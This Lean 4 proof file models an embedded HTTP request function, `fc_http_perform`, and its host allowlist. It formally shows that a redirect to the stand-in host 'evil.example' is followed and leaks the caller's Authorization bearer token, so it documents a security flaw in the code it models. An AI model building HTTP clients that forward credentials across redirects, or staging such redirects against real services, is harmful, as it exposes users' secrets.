-- SUMMARY: fc_http_perform: its checks, the request, and the hosts it may be led to.
import FruitClawApps.FruitClaw.Allowlist
import FruitClawApps.Netutils.Webclient.Redirects

/-!
# HTTP requests

`fc_http_perform` looks up the host of the URL in the allowlist and then hands the
request to the HTTP client. The client follows redirects on its own, and sends the
headers of the caller to every host that it is led to.
-/

namespace FruitClaw

open Netutils Netutils.Webclient

/-! ## The request -/

/-- `FC_HTTP_HEADER_MAX`. -/
def fcHttpHeaderMax : Nat := 8

/-- The size of the buffer that `fc_http_perform` gives to the client. -/
def httpIobufLen : Nat := 768

/-- The arguments of `fc_http_perform` that the request depends on. -/
structure HttpRequest where
  method : Option CStr
  url : Option CStr
  /-- The names and the values of the headers. -/
  headers : List (CStr × CStr)
  body : Option CStr
  responseLen : Nat

/-- What the request meets before it starts: the configuration of the build, the
lock, the guard, and the allocator. -/
structure HttpEnv where
  /-- `CONFIG_FRUITCLAW_ENABLE_TLS` and `CONFIG_CRYPTO_MBEDTLS`. -/
  tls : Bool
  userAgent : CStr
  lock : Ret
  guardStart : Ret
  alloc : Ret

/-- `fc_http_sink`, which takes data while the response has room for it. -/
def fcHttpSink (responseLen : Nat) (taken new : List Char) : Ret :=
  if new = [] then .ok ()
  else if taken.length + new.length ≥ responseLen then .error .enospc
  else .ok ()

/-- The context that `fc_http_perform` fills in. -/
def httpContext (env : HttpEnv) (req : HttpRequest) (method url : CStr) : Ctx where
  method := method
  url := url
  headers :=
    (req.headers.take fcHttpHeaderMax).map fun (name, value) => (name ++ ": ".toList ++ value).take 159
  body := req.body.getD []
  http11 := true
  tls := env.tls && startsWith url "https://".toList
  buflen := httpIobufLen
  userAgent := env.userAgent
  sink := fcHttpSink req.responseLen

/-- `fc_http_perform` up to the first step of the client. -/
def fcHttpPerform (root : DataRoot) (fs : FileStore) (env : HttpEnv) (req : HttpRequest) :
    Except Errno (Ctx × Client) :=
  match req.method, req.url with
  | some method, some url =>
    if req.responseLen = 0 then .error .einval
    else if !fcUrlHostAllowed root fs (some url) then .error .eacces
    else if startsWith url "https://".toList && !env.tls then .error .enotsup
    else do
      env.lock
      env.guardStart
      let ctx := httpContext env req method url
      let client ← begin ctx env.alloc
      .ok (ctx, client)
  | _, _ => .error .einval

/-! ## Redirects -/

/-- The host is one that the allowlist accepts. -/
abbrev Allowed (root : DataRoot) (fs : FileStore) (host : CStr) : Prop := hostAllowed root fs host = true

theorem fcHttpPerform_begin {root : DataRoot} {fs : FileStore} {env : HttpEnv} {req : HttpRequest} {ctx : Ctx}
    {client : Client} (h : fcHttpPerform root fs env req = .ok (ctx, client)) :
    begin ctx env.alloc = .ok client := by
  unfold fcHttpPerform at h
  split at h
  · split at h
    · cases h
    split_ifs at h
    simp only [Except.bind_eq_ok_iff] at h
    obtain ⟨-, -, -, -, c, hbegin, hok⟩ := h
    cases hok
    exact hbegin
  · cases h

/-- In every run of a request in which each target that the client takes from a
`Location` header has an allow-listed host, every connection after the first one
goes to an allow-listed host, and so does everything that is sent on it. -/
theorem redirects_allowed (root : DataRoot) (fs : FileStore) (env : HttpEnv) (req : HttpRequest) (ctx : Ctx)
    (client : Client) (ls : List Answers) (h : fcHttpPerform root fs env req = .ok (ctx, client))
    (hloc : Transition.Meets (step ctx) (LocationAccepted (Allowed root fs) ctx) client ls) :
    Transition.Always (step ctx) (RedirectsAccepted (Allowed root fs)) client ls :=
  redirectsAccepted_run (fcHttpPerform_begin h) hloc

/-! ## A redirect to another host -/

/-- A data root whose allowlist has one host. -/
def oneHostStore : FileStore := fun path =>
  if path = "/data/fruitclaw/http_allowlist.txt".toList then some "api.example\n".toList else none

def plainEnv : HttpEnv := ⟨false, "NuttX".toList, .ok (), .ok (), .ok ()⟩

/-- A request with a secret in its headers. -/
def secretRequest : HttpRequest where
  method := some "GET".toList
  url := some "http://api.example/v1".toList
  headers := [("Authorization".toList, "Bearer key".toList)]
  body := none
  responseLen := 1024

def secretContext : Ctx := httpContext plainEnv secretRequest "GET".toList "http://api.example/v1".toList

def secretClient : Client :=
  ⟨.fresh ⟨"http".toList, "api.example".toList, "/v1".toList, 80⟩, false, ⟨0, []⟩, [], [], none⟩

/-- All system calls succeed, and the server sends a response. -/
def answering (response : String) : Answers := ⟨.ok (), .ok (), .ok 768, .ok response.toList⟩

/-- A run through the first request, the redirect, and the second request. -/
def redirectRun (location : String) : List Answers :=
  List.replicate 11 (answering ("HTTP/1.1 302 Found\r\nLocation: " ++ location ++ "\r\n\r\n"))

instance (root : DataRoot) (fs : FileStore) (c : Client) : Decidable (RedirectsAccepted (Allowed root fs) c) :=
  inferInstanceAs (Decidable (∀ e ∈ c.log, _))

theorem fcHttpPerform_secret :
    fcHttpPerform (fcDataDir false) oneHostStore plainEnv secretRequest = .ok (secretContext, secretClient) := by
  have hallowed : fcUrlHostAllowed (fcDataDir false) oneHostStore (some "http://api.example/v1".toList) = true := by
    decide
  have hscheme : startsWith "http://api.example/v1".toList "https://".toList = false := by decide
  have hbegin : begin secretContext (.ok ()) = .ok secretClient := by decide +kernel
  have hlen : ¬ (1024 = 0) := by decide
  exact Except.bind_eq_ok_iff.mpr ⟨(), rfl, Except.bind_eq_ok_iff.mpr
    ⟨(), rfl, Except.bind_eq_ok_iff.mpr ⟨_, hbegin, rfl⟩⟩⟩

/-- A redirect to another page of the same host. -/
theorem redirects_allowed_same_host :
    Transition.Meets (step secretContext)
        (LocationAccepted (Allowed (fcDataDir false) oneHostStore) secretContext) secretClient
        (redirectRun "http://api.example/v2") ∧
      Transition.Always (step secretContext) (RedirectsAccepted (Allowed (fcDataDir false) oneHostStore)) secretClient
        (redirectRun "http://api.example/v2") := by
  have hloc : Transition.Meets (step secretContext)
      (LocationAccepted (Allowed (fcDataDir false) oneHostStore) secretContext) secretClient
      (redirectRun "http://api.example/v2") := by
    decide +kernel
  exact ⟨hloc, redirects_allowed _ _ _ _ _ _ _ fcHttpPerform_secret hloc⟩

/-- A redirect to a host that is not in the allowlist is followed, and the secret is
sent there. -/
theorem redirects_leave_allowlist :
    fcHttpPerform (fcDataDir false) oneHostStore plainEnv secretRequest = .ok (secretContext, secretClient) ∧
      (∃ bytes, .sent ⟨1, "evil.example".toList⟩ bytes ∈
          (Transition.run (step secretContext) secretClient (redirectRun "http://evil.example/")).log ∧
        strstr bytes "Authorization: Bearer key".toList = true) ∧
      ¬ Transition.Always (step secretContext) (RedirectsAccepted (Allowed (fcDataDir false) oneHostStore)) secretClient
        (redirectRun "http://evil.example/") := by
  refine ⟨fcHttpPerform_secret,
    ⟨requestText secretContext ⟨"http".toList, "evil.example".toList, "/".toList, 80⟩, ?_, ?_⟩, ?_⟩
  all_goals decide +kernel

end FruitClaw
